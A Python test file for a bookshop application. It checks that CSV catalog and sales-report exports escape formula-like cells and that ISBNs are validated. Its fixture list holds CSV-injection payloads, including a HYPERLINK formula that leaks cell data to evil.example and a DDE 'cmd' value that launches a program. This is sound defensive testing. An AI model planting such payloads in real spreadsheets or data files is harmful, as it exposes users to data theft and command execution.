"""CSV files a spreadsheet opens safely, and the catalog's ISBNs checked on every path in.

A title from a supplier's file that starts with "=" would be a formula in
the spreadsheet that opens the export; each export marks such cells so they
stay text, and the program's own import takes the mark off again.
"""

import csv
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from bookshop_gui.domain import OrderStatus
from bookshop_gui.errors import InvalidInput
from bookshop_gui.models import Book
from bookshop_gui.services import catalog, catalog_io, csv_files, reports

from .builders import make_book, order_in

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# (ISBN, title, author, cover): what a supplier's file or a careless clerk can send.
DANGEROUS = [
    ("9780141439518", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "-2+3", "@SUM(A1)"),
    ("9780141439587", "+Plus", "=1+1", ""),
    ("9780141439662", "-Minus, the novel", "'=already marked", "'plain"),
    ("9780142437247", "@home", "''-two marks", "covers/x.png"),
    ("9780141439471", "'Tis the Season", "-", "=cmd|' /C calc'!A0"),
]


def cells(path):
    """Every cell of a CSV file, as a spreadsheet reading it as text would see it."""
    with open(path, encoding="utf-8", newline="") as source:
        return [cell for row in csv.reader(source) for cell in row]


def add_dangerous_books(token):
    for isbn, title, author, pic in DANGEROUS:
        catalog.add_book(token, title=title, author=author, isbn=isbn, pic=pic,
                         price=Decimal("9.99"), stock=3)


def books_of(shop_id, *, isbn=False):
    rows = Book.select().where(Book.shop == shop_id).order_by(Book.isbn)
    rows = rows.where(Book.isbn != "") if isbn else rows
    return [(b.isbn, b.title, b.author, b.pic, b.price, b.stock) for b in rows]


@pytest.mark.parametrize("value", [
    "=1+1", "+1", "-", "-x", "@x", "\tx", "\rx", "'=1", "''-x", "'x", "x", "", "-12.00", "'-12.00",
    "-1e5", "-1+2", "12", "=", "'", "''",
])
def test_marking_a_cell_is_undone_exactly_and_leaves_nothing_to_run(value):
    cell = csv_files.inert(value)
    assert csv_files.original(cell) == value
    assert not cell.startswith(FORMULA_STARTS) or csv_files.NUMBER.fullmatch(cell)


def test_an_export_has_no_cell_a_spreadsheet_would_run(world, tmp_path):
    add_dangerous_books(world.staff_a.token)
    Book.create(shop=world.shop_a, title="\tTabbed", author="\rReturned", price=1, stock=1)
    path = tmp_path / "catalog.csv"
    catalog_io.export_csv(world.staff_a.token, path)
    written = cells(path)
    assert [cell for cell in written if cell.startswith(FORMULA_STARTS)] == []
    assert "'+Plus" in written and "'\tTabbed" in written and "'Tis the Season" in written


def test_the_programs_own_import_gives_back_exactly_what_was_exported(world, tmp_path):
    add_dangerous_books(world.staff_a.token)
    path = tmp_path / "catalog.csv"
    catalog_io.export_csv(world.staff_a.token, path)
    result = catalog_io.import_csv(world.staff_b.token, path)
    assert result.added == len(DANGEROUS)
    assert {r.reason for r in result.refused} == {"No ISBN: a book is matched on its ISBN."}
    assert books_of(world.shop_b, isbn=True) == books_of(world.shop_a, isbn=True)
    again = catalog_io.import_csv(world.staff_a.token, path)
    assert (again.unchanged, again.updated) == (len(DANGEROUS), 0)


def test_a_sales_report_export_has_no_formula_cell(world, tmp_path):
    book = make_book(world.shop_a, title="=1+2", price="5.00")
    order_in(world, OrderStatus.PENDING_SHIPMENT, book=book)
    today = datetime.now(UTC).date()
    report = reports.sales_report(world.staff_a.token, today, today)
    path = tmp_path / "sales.csv"
    reports.write_csv(report, path)
    written = cells(path)
    assert "'=1+2" in written
    assert [cell for cell in written if cell.startswith(FORMULA_STARTS)] == []


def test_an_export_to_a_missing_folder_says_so(world, tmp_path):
    missing = tmp_path / "no such folder" / "catalog.csv"
    with pytest.raises(InvalidInput, match="does not exist"):
        catalog_io.export_csv(world.staff_a.token, missing)
    today = datetime.now(UTC).date()
    report = reports.sales_report(world.staff_a.token, today, today)
    with pytest.raises(InvalidInput, match="does not exist"):
        reports.write_csv(report, missing)
    assert not missing.parent.exists()


def test_one_bad_row_is_refused_and_the_rest_goes_in(world, tmp_path):
    path = tmp_path / "books.csv"
    path.write_text("isbn,title,author,price,stock,pic\n"
                    "9780141439518,Good,,9.99,1,\n"
                    "9780141439587,Bad\x00title,,9.99,1,\n"
                    "9780141439662,Odd stock,,9.99,²,\n"
                    "97801414395²8,Odd ISBN,,9.99,1,\n"
                    "9780142437247,Also good,Au\x00thor,9.99,1,\n"
                    "9780141439471,Fine,,9.99,2,\n", encoding="utf-8")
    result = catalog_io.import_csv(world.staff_a.token, path)
    assert result.added == 2
    assert [r.line for r in result.refused] == [3, 4, 5, 6]
    assert [b[1] for b in books_of(world.shop_a) if b[0].startswith("97801414")] == [
        "Fine", "Good"]


@pytest.mark.parametrize("isbn", ["@SUM(A1)", "=1+1", "9780141439519", "12345", "978014143951X"])
def test_add_and_update_refuse_an_isbn_the_editor_refuses(world, isbn):
    staff = world.staff_a.token
    before = books_of(world.shop_a)
    with pytest.raises(InvalidInput, match="ISBN"):
        catalog.add_book(staff, title="Checked", price=Decimal(1), stock=1, isbn=isbn)
    with pytest.raises(InvalidInput, match="ISBN"):
        catalog.update_book(staff, world.book_a1, isbn=isbn)
    assert books_of(world.shop_a) == before


def test_a_valid_isbn_is_stored_plain_and_can_be_cleared(world):
    staff = world.staff_a.token
    book_id = catalog.add_book(staff, title="Checked", price=Decimal(1), stock=1,
                               isbn="0-8044-2957-x")
    assert catalog.get(book_id).isbn == "080442957X"
    catalog.update_book(staff, book_id, isbn="")
    assert catalog.get(book_id).isbn == ""
